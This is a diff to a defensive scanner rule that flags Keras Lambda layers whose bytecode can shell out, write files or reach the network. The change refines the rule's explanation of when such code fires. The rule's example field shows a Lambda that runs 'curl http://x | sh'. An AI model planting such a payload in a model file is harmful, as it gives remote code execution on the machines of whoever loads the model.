@@ -44,7 +44,7 @@ export const lambdaRisky = defineRule({
     name: "lambda-risky-code",
     severity: "critical",
     summary: "A Lambda's bytecode calls something with a risky capability (exec, shell, file write, network, ...).",
-    why: "Keras rebuilds a model by calling every layer, so Lambda bytecode runs at load and again on every inference. A Lambda that shells out or writes files does so while the model keeps predicting normally.",
+    why: "Keras rebuilds a model by calling every layer, so Lambda bytecode runs at load and again on every inference (trigger inference where the loaders skip that call: Keras 3 with a stored output_shape, or effects that are TensorFlow ops, which tracing only adds to the graph). A Lambda that shells out or writes files does so while the model keeps predicting normally.",
     example: 'Lambda(lambda x: (__import__("os").system("curl http://x | sh"), x)[1])',
     fix: "Do not load the model. If the function is yours, replace the Lambda with a registered custom layer whose code you review.",
     references: ["CWE-94", "CWE-502"],
@@ -53,7 +53,10 @@ export const lambdaRisky = defineRule({
     "keras-lambda"(s, report) {
       const v = verdictFor(s);
       if (v.kind !== "risky") return;
-      report({ severity: v.severity, capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${v.message}`, evidence: evidence(v), affectedVersions: s.affectedVersions });
+      // The walk knows when the loaders do not run it while rebuilding the model (a stored
+      // output_shape in Keras 3, TensorFlow ops that only act when the graph runs).
+      const message = s.trigger === "inference" ? v.message.replace(/; it runs at load and on every inference\.$/, "; it runs at the first predict and on every inference, not while the model is rebuilt.") : v.message;
+      report({ severity: v.severity, capabilities: v.capabilities, trigger: s.trigger, message: `${where(s)}: ${message}`, evidence: evidence(v), affectedVersions: s.affectedVersions });
     },
   },
 });
